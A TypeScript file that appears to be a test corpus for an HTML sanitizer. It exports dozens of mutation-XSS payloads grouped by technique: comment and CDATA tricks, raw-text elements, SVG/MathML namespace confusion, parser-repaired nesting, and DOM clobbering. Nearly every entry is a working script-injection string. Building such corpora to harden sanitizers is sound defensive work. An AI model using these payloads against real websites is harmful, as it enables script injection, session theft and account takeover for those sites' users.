import { run, vectorsOf, type Vector } from './vector.ts';

/** What comes out of its hiding place when the HTML is parsed for a second time. */
const image = `<img src=x onerror=${run}>`;
const hidden = `&lt;img src=x onerror=${run}&gt;`;
const deep = (times: number, open: string, inside: string) => open.repeat(times) + inside;

export const mutations: readonly Vector[] = [
  ...vectorsOf('a comment that ends elsewhere', [
    `<!--><!-- -->${image}-->`,
    `<!---->${image}`,
    `<!-->${image}-->`,
    `<!--->${image}-->`,
    `<!--x--!>${image}-->`,
    `<!-- \`<img src=x onerror=${run}//--!>`,
    `<p title="--><img src=x onerror=${run}>">texto</p>`,
    `<![CDATA[>${image}]]>`,
    `<svg><![CDATA[><image href="]]>${image}"></svg>`,
    `<?php ?>${image}<?x "${image}" ?>`,
    `</ x="${image}">`,
  ]),
  ...vectorsOf('text that is not text', [
    ...['noscript', 'noembed', 'noframes', 'xmp', 'iframe', 'style', 'title', 'textarea', 'plaintext', 'listing'].flatMap((raw) => [
      `<${raw}><p title="</${raw}>${image}">`,
      `<p><${raw}><!--</${raw}>${image}--></${raw}></p>`,
      `<${raw}>${hidden}</${raw}>`,
    ]),
    `<select><style></select>${image}</style></select>`,
    `<option><style></option></select>${image}</style>`,
    `<template><style></template>${image}</style></template>`,
    `<template><p>${image}</p><template>${image}</template></template>`,
    `<div><template shadowrootmode=open>${image}</template></div>`,
  ]),
  ...vectorsOf('a drawing or a formula that becomes HTML', [
    `<svg></p><style><a id="</style>${image}">`,
    `<svg></p><title><a id="</title>${image}">`,
    `<svg><p><style><p title="</style>${image}">`,
    `<svg><foreignObject><p><style><p title="</style>${image}">`,
    `<svg><desc><p><style><p title="</style>${image}">`,
    `<svg><title><style><!--</style>${image}-->`,
    `<math></p><style><a id="</style>${image}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden}">`,
    `<math><mtext><table><mglyph><style><math href="javascript:${run}">texto</math>`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
    `<math><annotation-xml encoding="text/html"><p><style><p title="</style>${image}">`,
    `<math><mi><table><mglyph><svg><mtext><style><a title="</style>${image}">`,
    `<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=x onerror=${run}>">`,
    `<math><mtext><option><x><option></option><mglyph><svg><mtext><style><a title="</style>${image}">`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${image}"></style></h1>`,
    `<svg><x><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>${hidden}">`,
    `<svg><set attributeName=onmouseover to=${run}></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  ]),
  ...vectorsOf('nesting that the parser straightens', [
    `<table><tr><td><table></td></tr>${image}`,
    `<a href=/x><table><a href="javascript:${run}">texto</table>`,
    `<b><p></b>${image}</p>`,
    `<p><form><p></form>${image}`,
    `<form><form>${image}</form></form>`,
    `<caption>${image}</caption><tr>${image}</tr><td>${image}`,
    `<select><select>${image}</select></select>`,
    `<isindex prompt="${image}" action="javascript:${run}">`,
    deep(600, '<p><b>', image),
    deep(600, '<div>', `<table><svg></p><style><a id="</style>${image}">`),
    deep(300, '<form><div>', image),
    deep(120, '<math><mtext>', `<style><!--</style><img title="--&gt;${hidden}">`),
  ]),
  ...vectorsOf('names that shadow the document’s', [
    ...['attributes', 'nodeName', 'parentNode', 'childNodes', 'removeChild', 'getAttributeNode', 'textContent', 'namespaceURI', 'nextSibling'].flatMap(
      (name) => [
        `<form onclick=${run}><input name=${name}><input id=${name}>${image}</form>`,
        `<a id=${name} name=${name} href=/x onclick=${run}>texto</a>`,
      ],
    ),
    ...['body', 'cookie', 'createElement', 'currentScript', 'getElementById', 'location', 'head', 'implementation', 'webpackChunkshell'].flatMap((name) => [
      `<img name=${name} src=x><form name=${name}><input name=${name}></form>`,
      `<a id=${name}></a><a id=${name} name=toString href="javascript:${run}"></a>`,
    ]),
    `<p id=main is=x-button slot=x part=x itemprop=x class=__executed>texto</p>`,
    `<p id=__proto__><p id=constructor><p name=__proto__ data-bind="text: ${run}" v-html=${run} ng-init=${run} :x=${run} @click=${run} {{${run}}}>texto</p>`,
  ]),
];
